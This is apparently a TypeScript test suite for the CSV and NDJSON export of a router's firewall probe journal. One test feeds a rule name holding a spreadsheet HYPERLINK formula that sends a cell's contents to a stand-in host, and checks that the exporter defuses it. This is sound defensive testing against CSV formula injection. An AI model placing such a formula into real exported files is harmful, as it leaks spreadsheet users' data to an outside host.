import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { JournalEvent } from "../../../src/model/event.ts";
import { csv } from "../../../src/worker/export/csv.ts";
import { ndjson } from "../../../src/worker/export/ndjson.ts";
import { eventItems, probe } from "../../support/events.ts";
import { journalWith, linesOf } from "../../support/exports.ts";
import { labelsOf } from "../../support/labels.ts";
import { readCsv, withoutPython } from "../../support/python-csv.ts";

const noon = Date.parse("2026-12-01T12:00:00Z");
const head =
  "time,time_from,time_uncertainty_ms,action,protocol,source,destination,source_port,port,icmp_type,icmp_code,tcp_flags,count," +
  "interface,rule,format,id,router,service,hostname,domain,country,asn,network\r";

function withoutId(line: string | undefined): string | undefined {
  return line?.replace(/home-[a-z0-9]{4}-/, "home-****-");
}

test("a table has a line of names and a row for each probe; cells that are not known are empty", (t) => {
  const events = [
    probe(noon, { tcpFlags: ["syn", "ece"], count: 3, interface: "eth0", rule: "WAN in", destination: "198.51.100.1" }),
    probe(noon + 1, {
      protocol: "ipv6-icmp",
      source: "2001:db8::9",
      sourcePort: undefined,
      port: undefined,
      icmpType: 128,
      icmpCode: 0,
      timeFrom: "scrape",
      timeUncertaintyMs: 5000,
    }),
  ];
  const network = { country: "DE", asn: 64_500, network: "Example, Inc." };
  const labels = labelsOf({ "203.0.113.9": network, "2001:db8::9": network });
  const lines = linesOf(journalWith(t, { home: eventItems(events) }), csv, { labels });
  assert.deepEqual(lines.map(withoutId), [
    head,
    '2026-12-01T12:00:00.000Z,router,,drop,tcp,203.0.113.9,198.51.100.1,40000,445,,,syn ece,3,eth0,WAN in,test,home-****-1,home,microsoft-ds,,,DE,64500,"Example, Inc."\r',
    '2026-12-01T12:00:00.001Z,scrape,5000,drop,ipv6-icmp,2001:db8::9,,,,128,0,,1,,,test,home-****-2,home,,,,DE,64500,"Example, Inc."\r',
  ]);
});

test("the names are there when there is no row", (t) => {
  assert.deepEqual(linesOf(journalWith(t, {}), csv), [head]);
});

test("our own address leaves its column empty where its owner asks for it", (t) => {
  const journal = journalWith(t, { home: eventItems([probe(noon, { destination: "198.51.100.1" })]) });
  const [names, row] = linesOf(journal, csv, { isOwnAddressMasked: true });
  assert.equal(names, head);
  assert.match(row ?? "", /,203\.0\.113\.9,,40000,445,/);
});

test("gaps have a table of their own", (t) => {
  const gap = { fromMs: noon, toMs: noon + 60_000, probesEstimate: 10, isExact: false, isFilled: false } as const;
  const journal = journalWith(t, { home: [{ kind: "gap", gap: { ...gap, cause: "reboot" } }] });
  assert.deepEqual(linesOf(journal, csv, { isGapsWanted: true }).map(withoutId), [
    "router,from,to,entries,probes_estimate,exact,cause,filled,id\r",
    "home,2026-12-01T12:00:00.000Z,2026-12-01T12:01:00.000Z,,10,false,reboot,false,home-****-1\r",
  ]);
});

test("hostile names of rules and interfaces stay in their cells, and are no formulas", (t) => {
  const rule = '=HYPERLINK("http://192.0.2.1/?"&A1,"x"),\r\n@a;-b';
  const journal = journalWith(t, { home: eventItems([probe(noon, { rule, interface: "+eth0\t" })]) });
  const [, row] = linesOf(journal, csv);
  assert.ok(row?.includes(`,"'+eth0\t","'=HYPERLINK(""http://192.0.2.1/?""&A1,""x""),\r\n'@a;'-b",test,`), row);
});

const words = fc.string({ unit: "binary", minLength: 1 }).filter((text) => !/['\0]/.test(text));
const facts: fc.Arbitrary<Partial<JournalEvent>> = fc.record(
  {
    timeUncertaintyMs: fc.nat(),
    protocol: fc.constantFrom("tcp", "udp", "icmp", "253"),
    source: fc.oneof(fc.ipV4(), fc.constant("2001:db8::1")),
    destination: fc.ipV4(),
    sourcePort: fc.nat(65_535),
    port: fc.nat(65_535),
    icmpType: fc.nat(255),
    icmpCode: fc.nat(255),
    tcpFlags: fc.subarray(["syn", "ack", "fin", "rst", "psh", "urg", "ece", "cwr"] as const, { minLength: 1 }),
    count: fc.integer({ min: 1, max: 1000 }),
    interface: words,
    rule: words,
  },
  { requiredKeys: [] },
);
/** Each run starts a program. */
const runs = Math.ceil(Number(process.env["PROPERTY_RUNS"] ?? 300) / 60);

test("the cells of a table are the values of the JSON lines", { skip: withoutPython }, (t) => {
  fc.assert(
    fc.property(fc.array(facts, { maxLength: 100, size: "max" }), (events) => {
      const journal = journalWith(t, { home: eventItems(events.map((each) => probe(noon, each))) });
      const [names = [], ...rows] = readCsv(`${linesOf(journal, csv).join("\n")}\n`);
      const expected = linesOf(journal, ndjson).map((line) => JSON.parse(line));
      const read = rows.map((cells) => names.map((name, column) => [name, cells[column]?.replaceAll("'", "") ?? ""]));
      assert.deepEqual(
        read.map((pairs) => Object.fromEntries(pairs.filter(([, cell]) => cell !== ""))),
        expected.map((row) => ({ count: "1", ...mapValues(row, cellOf) })),
      );
    }),
    { numRuns: runs },
  );
});

/** What a cell of that value must read, but for the apostrophes of formulas: no value has one of its own. */
function cellOf(value: unknown): string {
  return Array.isArray(value) ? value.join(" ") : String(value);
}

function mapValues(row: object, change: (value: unknown) => string): object {
  return Object.fromEntries(Object.entries(row).map(([key, value]) => [key, change(value)]));
}
